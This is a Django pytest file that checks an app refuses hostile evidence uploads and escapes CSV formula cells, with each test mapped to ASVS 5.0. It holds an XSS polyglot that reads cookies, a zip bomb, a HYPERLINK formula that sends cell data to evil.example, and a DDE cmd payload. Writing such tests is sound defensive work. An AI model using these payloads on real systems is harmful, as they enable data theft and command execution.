"""Files as an attacker sends them: polyglots, zip bombs, oversized bodies, CSV formulas. Each is
performed and refused; the ASVS 5.0 requirement is named in each docstring."""

from __future__ import annotations

import logging

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from tasks_app.models import Evidence, ProgressReport
from tests import files
from tests.fixtures_web import sign_in

pytestmark = pytest.mark.django_db

POLYGLOT = files.PDF.replace(b"1 0 obj", b"<html><body><script>alert(document.cookie)</script></body></html>\n1 0 obj")


def web_progress(client, assignment, upload):
    url = reverse("web:assignment-action", args=[assignment.pk, "progress"])
    return client.post(url, {"progress-version": assignment.version, "progress-percent": 30, "progress-files": upload})


def api_progress(key, assignment, upload):
    return key.client().post(
        f"/api/v1/assignments/{assignment.pk}/progress/", {"percent": 30, "files": [upload]}, format="multipart"
    )


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("polyglot.html", POLYGLOT),  # starts %PDF-1.4, then a page with script
        ("polyglot.pdf", POLYGLOT),
        ("bao-cao.pdf", b"%PDF-1.4\n<html><script>alert(1)</script>"),  # no trailer either
        ("bom.docx", files.zip_bomb_docx()),  # 300 MB of zeros packed into ~300 KB
        ("ghi-chu.txt", "Ghi chú thuần văn bản".encode()),  # not a kind the form's hint names
        ("du-lieu.csv", b"a,b\n1,2\n"),
        ("anh.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 64),  # a PNG header, not an image
        ("nen.zip", files.docx().replace(b"word/document.xml", b"word/other000.xml")),
    ],
)
def test_polyglots_bombs_and_unlisted_kinds_are_refused_on_both_paths(
    client, official_a, key_a, assignment_a, name, content
):
    """ASVS 5.0 5.2.2 (file content matches its type), 5.2.3 (compressed files checked against a
    maximum uncompressed size) and 5.2.1: refused by the web form and the API, nothing recorded."""
    sign_in(client, official_a)
    page = web_progress(client, assignment_a, SimpleUploadedFile(name, content))
    assert page.status_code == 400 and page.context["forms"]["progress"].errors["files"]
    response = api_progress(key_a, assignment_a, SimpleUploadedFile(name, content))
    assert response.status_code == 400 and "files" in response.json(), response.content[:500]
    assert not ProgressReport.objects.exists() and not Evidence.objects.exists()


def test_the_accepted_kinds_are_exactly_those_the_form_names(client, official_a, key_a, assignment_a):
    """ASVS 5.0 5.2.2: what the hint lists is what is accepted (PDF, images, Word, Excel,
    PowerPoint), and the hint states the size limit."""
    sign_in(client, official_a)
    page = client.get(reverse("web:assignment", args=[assignment_a.pk])).content.decode()
    assert "PDF, ảnh (JPEG, PNG, WebP, HEIC), Word (.doc, .docx, .odt)" in page
    assert "mỗi tệp tối đa 20 MB" in page
    for name, content in [
        ("a.pdf", files.PDF),
        ("b.png", files.png()),
        ("c.jpg", files.jpeg()),
        ("d.docx", files.docx()),
    ]:
        response = api_progress(key_a, assignment_a, SimpleUploadedFile(name, content))
        assert response.status_code == 201, (name, response.content[:300])


def test_downloads_are_named_by_the_detected_type_with_the_same_headers_on_both_paths(
    client, official_a, key_a, assignment_a
):
    """ASVS 5.0 5.4.1/5.4.2 (served as attachment, never rendered) and 3.4.x (CSP sandbox,
    nosniff): a PDF uploaded as `bien-ban.html` is downloaded as `bien-ban.pdf` from the page and the
    API, with identical headers."""
    response = api_progress(key_a, assignment_a, SimpleUploadedFile("bien-ban.html", files.PDF))
    assert response.status_code == 201
    item = Evidence.objects.exclude(file="").get()
    sign_in(client, official_a)
    web = client.get(reverse("web:evidence-file", args=[item.pk]))
    api = key_a.client().get(f"/api/v1/evidence/{item.pk}/download/")
    headers = ("Content-Type", "Content-Disposition", "X-Content-Type-Options", "Content-Security-Policy")
    assert [web[h] for h in headers] == [api[h] for h in headers]
    assert web["Content-Disposition"] == 'attachment; filename="bien-ban.pdf"'
    assert web["Content-Type"] == "application/pdf" and web["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in web["Content-Security-Policy"]
    assert not item.file.name.endswith(".html")


def test_an_evidence_file_missing_on_disk_is_a_404_and_a_log_line(client, official_a, key_a, assignment_a, caplog):
    """ASVS 5.0 16.5.3 (errors handled, no 500) and 16.2.1 (security-relevant events logged)."""
    api_progress(key_a, assignment_a, SimpleUploadedFile("a.pdf", files.PDF))
    item = Evidence.objects.exclude(file="").get()
    item.file.storage.delete(item.file.name)
    sign_in(client, official_a)
    with caplog.at_level(logging.ERROR, logger="tasks_app.evidence"):
        assert client.get(reverse("web:evidence-file", args=[item.pk])).status_code == 404
        api = key_a.client().get(f"/api/v1/evidence/{item.pk}/download/")
    assert api.status_code == 404 and api["Content-Type"].startswith("application/json")
    assert "missing on disk" in caplog.text and item.file.name in caplog.text


def test_an_oversized_file_is_refused_without_being_stored_whole(official_a, client, key_a, assignment_a, settings):
    """ASVS 5.0 5.2.1 (file size limit enforced): the file beyond the limit is refused with the
    limit named; a body beyond every file at its largest is refused before it is read."""
    settings.API_EVIDENCE_MAX_BYTES = 64 * 1024
    big = files.PDF + b"0" * (200 * 1024)
    response = api_progress(key_a, assignment_a, SimpleUploadedFile("big.pdf", big))
    assert response.status_code == 400 and "quá lớn" in str(response.json()["files"])
    settings.API_EVIDENCE_MAX_FILES = 1
    sign_in(client, official_a)
    huge = client.post(
        reverse("web:assignment-action", args=[assignment_a.pk, "progress"]),
        {"progress-version": 1, "progress-percent": 30, "progress-files": SimpleUploadedFile("x.pdf", big * 8)},
    )
    assert huge.status_code == 400
    assert not Evidence.objects.exists()


@pytest.mark.parametrize(
    "typed",
    ['=HYPERLINK("http://evil.example/?"&A1,"Xem")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"],
)
def test_summary_csv_escapes_formula_cells(client, leader, task, assignment_a, typed):
    """ASVS 5.0 1.2.10 (CSV and formula injection): a title and a deliverable typed as a formula reach
    summary.csv with a leading quote, so a spreadsheet shows the text instead of running it."""
    import csv
    import io

    type(task).objects.filter(pk=task.pk).update(title=typed, deliverable=typed)
    sign_in(client, leader, verified=True)
    response = client.get(f"/kpi/reports/summary.csv?plan={task.group.plan_id}")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert rows and rows[0]["task"] == "'" + typed and rows[0]["deliverable"] == "'" + typed
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
